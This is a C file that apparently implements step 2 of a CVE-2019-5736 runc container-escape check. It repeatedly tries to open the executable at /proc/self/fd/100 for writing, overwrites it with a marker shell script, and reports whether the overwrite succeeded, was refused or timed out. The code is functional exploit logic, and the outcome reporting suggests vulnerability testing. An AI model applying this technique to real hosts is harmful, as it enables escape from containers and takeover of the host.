// CVE-2019-5736, step 2: reopens the executable kept at fd 100 for writing as soon as no process
// executes it any more (until then the kernel says ETXTBSY) and overwrites it. Reports
// "rewrote" when it got in, "refused errno N" when the open was refused for another reason, and
// "timeout" when the binary stayed busy for 30 s.
#include "syscalls.h"

__attribute__((force_align_arg_pointer, noreturn)) void _start(void) {
  struct {
    long sec, nsec;
  } ten_ms = {0, 10 * 1000 * 1000};
  for (int i = 0; i < 3000; ++i) {
    long fd = sys_open("/proc/self/fd/100", O_WRONLY | O_TRUNC, 0);
    if (fd >= 0) {
      put(fd, "#!/bin/sh\necho owned by the container\n");
      report("rewrote", 0);
      sys_exit(0);
    }
    if (-fd != ETXTBSY) {
      report("refused", -fd);
      sys_exit(0);
    }
    sys3(NR_nanosleep, (long)&ten_ms, 0, 0);
  }
  report("timeout", 0);
  sys_exit(0);
}
